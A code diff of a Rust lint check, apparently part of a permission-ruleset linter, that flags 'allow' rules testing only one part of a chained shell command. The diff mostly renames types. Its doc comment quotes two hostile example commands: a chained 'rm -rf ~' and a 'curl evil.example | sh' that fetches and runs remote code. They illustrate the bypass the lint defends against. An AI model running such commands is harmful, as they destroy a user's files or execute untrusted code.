@@ -1,10 +1,10 @@
 //! An `allow` that tests only part of a call and allows the rest unseen: `git status; rm -rf ~` runs `git status` too,
 //! and `touch docs/a; curl evil.example | sh` writes below `docs`.
 
-use super::calls::{Call, Calls, Lacking};
+use super::calls::{MissingValueReading, SelectedCall, SelectedCalls};
 use super::{FindingSink, Lint, SourceTexts};
 use crate::diagnostic::{Code, Diagnostic};
-use crate::ruleset::{CommandTest, Condition, Derived, Kind, Rule, Source, Test};
+use crate::ruleset::{CommandTest, Condition, ConditionExpr, DerivedField, Rule, ValueReference, ValueTest};
 use crate::schema::TOOLS;
 use crate::syntax::ast::FileVerb;
 
@@ -14,55 +14,61 @@ fn check(written: &SourceTexts<'_>, rule: &Rule, findings: &mut FindingSink) {
     if !rule.can_allow {
         return;
     }
-    let calls = Calls::of(rule);
-    let of_call = |call: &Call| {
+    let calls = SelectedCalls::from_rule(rule);
+    let of_call = |call: &SelectedCall| {
         let clauses = [(&rule.when, false), (&rule.unless, true)];
         let clauses: Vec<_> = clauses.into_iter().filter_map(|(clause, not)| Some((clause.as_ref()?, not))).collect();
         let covers = clauses.iter().any(|(clause, negated)| is_covered(clause, *negated, Some(call)));
-        if covers { None } else { clauses.iter().find_map(|(clause, negated)| part(clause, *negated, Some(call))) }
+        if covers {
+            None
+        } else {
+            clauses.iter().find_map(|(clause, negated)| partial_test(clause, *negated, Some(call)))
+        }
     };
     let of_record = || {
-        let when = rule.when.as_ref().filter(|when| calls.names_others && !is_covered(when, false, None))?;
-        part(when, false, None).filter(|part| matches!(part.kind, Kind::Command(_)))
+        let when = rule.when.as_ref().filter(|when| calls.has_unknown_tool && !is_covered(when, false, None))?;
+        partial_test(when, false, None).filter(|part| matches!(part.kind, ConditionExpr::Command(_)))
     };
-    if let Some(part) = calls.known.iter().filter(|call| call.runs()).find_map(of_call).or_else(of_record) {
+    if let Some(part) = calls.known.iter().filter(|call| call.can_run_commands()).find_map(of_call).or_else(of_record) {
         findings.push(finding(written, part));
     }
 }
 
 /// Whether a condition, or its negation, considers the whole of a call, so that no part of it is left untested.
-fn is_covered(condition: &Condition, is_negated: bool, call: Option<&Call>) -> bool {
-    if call.is_some_and(|call| call.comes_to(condition, Lacking::Decides) == Some(is_negated)) {
+fn is_covered(condition: &Condition, is_negated: bool, call: Option<&SelectedCall>) -> bool {
+    if call.is_some_and(|call| call.evaluate(condition, MissingValueReading::AsHook) == Some(is_negated)) {
         return true;
     }
     match (&condition.kind, is_negated) {
-        (Kind::And(parts), false) | (Kind::Or(parts), true) => {
+        (ConditionExpr::And(parts), false) | (ConditionExpr::Or(parts), true) => {
             parts.iter().any(|part| is_covered(part, is_negated, call))
         }
-        (Kind::Or(parts), false) | (Kind::And(parts), true) => {
+        (ConditionExpr::Or(parts), false) | (ConditionExpr::And(parts), true) => {
             parts.iter().all(|part| is_covered(part, is_negated, call))
         }
-        (Kind::Not(inner), _) => is_covered(inner, !is_negated, call),
-        (Kind::Def(inner), _) => is_covered(inner, is_negated, call),
-        (Kind::Command(CommandTest::OnlyRuns { .. }), false) => true,
-        (Kind::Compare { source: Source::Derived(Derived::Command), negated, test, .. }, _) => {
-            *negated == is_negated && matches!(test, Test::Equal(_) | Test::In(_))
+        (ConditionExpr::Not(inner), _) => is_covered(inner, !is_negated, call),
+        (ConditionExpr::Def(inner), _) => is_covered(inner, is_negated, call),
+        (ConditionExpr::Command(CommandTest::OnlyRuns { .. }), false) => true,
+        (ConditionExpr::Compare { source: ValueReference::Derived(DerivedField::Command), negated, test, .. }, _) => {
+            *negated == is_negated && matches!(test, ValueTest::Equal(_) | ValueTest::In(_))
         }
         _ => false,
     }
 }
 
 /// Returns the first test that leaves the rest of a call untested.
-fn part<'c>(condition: &'c Condition, is_negated: bool, call: Option<&Call>) -> Option<&'c Condition> {
+fn partial_test<'c>(condition: &'c Condition, is_negated: bool, call: Option<&SelectedCall>) -> Option<&'c Condition> {
     if is_covered(condition, is_negated, call) {
         return None;
     }
     match (&condition.kind, is_negated) {
-        (Kind::And(parts) | Kind::Or(parts), _) => parts.iter().find_map(|inner| part(inner, is_negated, call)),
-        (Kind::Not(inner), _) => part(inner, !is_negated, call),
-        (Kind::Def(inner), _) => part(inner, is_negated, call),
-        (Kind::Command(CommandTest::Runs { .. } | CommandTest::Pipes { .. }), false)
-        | (Kind::Touches { .. } | Kind::Connects(_), _) => Some(condition),
+        (ConditionExpr::And(parts) | ConditionExpr::Or(parts), _) => {
+            parts.iter().find_map(|inner| partial_test(inner, is_negated, call))
+        }
+        (ConditionExpr::Not(inner), _) => partial_test(inner, !is_negated, call),
+        (ConditionExpr::Def(inner), _) => partial_test(inner, is_negated, call),
+        (ConditionExpr::Command(CommandTest::Runs { .. } | CommandTest::Pipes { .. }), false)
+        | (ConditionExpr::Touches { .. } | ConditionExpr::Connects(_), _) => Some(condition),
         _ => None,
     }
 }
@@ -70,7 +76,7 @@ fn part<'c>(condition: &'c Condition, is_negated: bool, call: Option<&Call>) -> 
 fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
     let only = "add `only runs [\"ls *\", …]`, which applies to the whole text";
     match &part.kind {
-        Kind::Command(test) => {
+        ConditionExpr::Command(test) => {
             let finding = Diagnostic::new(Code::ALLOW_ON_PART, "an `allow` that tests one command")
                 .label(part.span, "allows every other command of the text too")
                 .help("write `only runs`, which applies to the whole text");
@@ -82,8 +88,8 @@ fn finding(written: &SourceTexts<'_>, part: &Condition) -> Diagnostic {
                 _ => finding,
             }
         }
-        Kind::Touches { verb, .. } => {
-            let word = verb.word();
+        ConditionExpr::Touches { verb, .. } => {
+            let word = verb.keyword();
             let tools = file_tools(*verb);
             let help = match tools.is_empty() {
                 true => only.to_owned(),
